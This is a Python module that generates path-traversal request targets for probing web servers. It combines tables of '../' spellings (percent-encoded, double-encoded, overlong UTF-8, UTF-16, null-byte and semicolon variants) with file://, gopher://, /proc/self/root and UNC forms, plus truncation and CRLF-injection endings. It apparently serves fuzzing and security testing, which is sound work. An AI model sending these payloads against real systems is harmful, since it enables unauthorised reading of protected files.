"""Paths that lead out of where they begin, in every spelling that a server has ever fallen for."""

from __future__ import annotations

from collections.abc import Iterator, Sequence
from itertools import product
from random import Random

UPWARDS = (
    # Plain, and with the other slash.
    b"../", b"..\\", b"/../", b"./../", b"//../", b"\\..\\", b".../", b"..../", b"..//",
    # What is left when `../` has been taken out once.
    b"....//", b"....\\/", b"..././", b"...\\.\\",
    # Percent-encoded, in part and whole, in either case.
    b"%2e%2e/", b"%2e./", b".%2E/", b"..%2f", b"..%2F", b"%2e%2e%2f", b"%2E%2E%2F", b"..%5c", b"%2e%2E%5C",
    # Twice, and three times.
    b"%252e%252e/", b"..%252f", b"%252e%252e%252f", b"%252E%252E%255C", b"%25252e%25252e%25252f",
    b"%%32%65%%32%65%%32%66",
    # Overlong UTF-8 (RFC 3629 §10), encoded and bare.
    b"%c0%ae%c0%ae/", b"..%c0%af", b"%C0%AE%C0%AE%C0%AF", b"..%c1%9c", b"..%c0%2f", b"..%c1%af",
    b"%e0%80%ae%e0%80%ae%e0%80%af", b"%f0%80%80%ae%f0%80%80%ae%f0%80%80%af", b"\xc0\xae\xc0\xae/",
    b"..\xc0\xaf", b"..%bg%qf",
    # UTF-16 as IIS read it, and letters that some normalise to dots and slashes.
    b"%u002e%u002e/", b"%u002E%u002E%u002F", b"..%u2215", b"..%u2216", b"%uff0e%uff0e%uff0f",
    b"%ef%bc%8e%ef%bc%8e/", b"..%ef%bc%8f", b"..%e2%88%95", b"%e2%80%a5/", b"\xef\xbc\x8e\xef\xbc\x8e/",
    # Something beside the dots that some throw away.
    b"..;/", b"..;a=b/", b"..%3b/", b"..%00/", b"%00../", b"..%20/", b"..%09/", b"..%0a/", b"..%0d/",
    b"..?/", b"..%3f/", b"..%23/", b".%00./", b"..\x00/", b"..\t/", b"../%2e/", b"..%ff/",
)  # fmt: skip
"One step up."
ENDINGS = (
    *(b"", b"%00", b"%00.cfg", b"\x00.xml", b";", b";.cfg", b"?", b"?.cfg", b"#", b"#.cfg", b".", b"%2e"),
    *(b"/", b"/.", b"%20", b"::$DATA", b"%3a%3a$DATA", b"~", b"%0a", b"%0d%0aX-Y:%20z", b"%ff"),
)
"What some cut off behind a name."
DEEPEST = 8
WHOLE = (
    *(b"http://127.0.0.1/%b", b"http://127.0.0.1/../%b", b"http://127.0.0.1/..%%2f..%%2f%b", b"HTTP://x:0/%b"),
    *(b"http://u:p@x/../../%b", b"http:%b", b"http:/%b", b"http:///%b", b"https://[::1]/../%b", b"http://[/%b"),
    *(b"file:///%b", b"file:%b", b"file://localhost/../%b", b"ftp://x/%b", b"gopher://x/%b", b"jar:file:///%b!/"),
    *(b"//127.0.0.1/%b", b"//x/../../%b", b"///%b", b"////../%b", b"\\\\x\\%b", b"/\\%b", b"\\%b", b"%b"),
    *(b"../%b", b"./%b", b"~/%b", b"/~root/%b", b"*", b"*/%b", b"/*/%b", b"127.0.0.1:80", b"x:443/../%b"),
    *(b"C:\\%b", b"/C:/%b", b"/c|/%b", b"/proc/self/root/%b", b"/proc/self/cwd/%b", b"/dev/fd/0/%b", b"?%b"),
    *(b"#%b", b"?/../%b", b"/?file=../%b", b"/;/../%b", b"/.;/%b", b"/%%2f%b", b"/%%5c%b", b"/%%00/%b"),
)  # fmt: skip
"Request targets that are no path (RFC 9112 §3.2), and paths from the root."


def traversals(beginnings: Sequence[bytes], wanted: Sequence[bytes], chance: Random) -> Iterator[bytes]:
    """Request targets: every spelling with every beginning and everything wanted, at any depth and ending."""
    for upwards, beginning, name in product(UPWARDS, beginnings, wanted):
        yield beginning + upwards * chance.randint(1, DEEPEST) + name + chance.choice(ENDINGS)
    for form, name in product(WHOLE, wanted):
        yield form % name if b"%b" in form else form
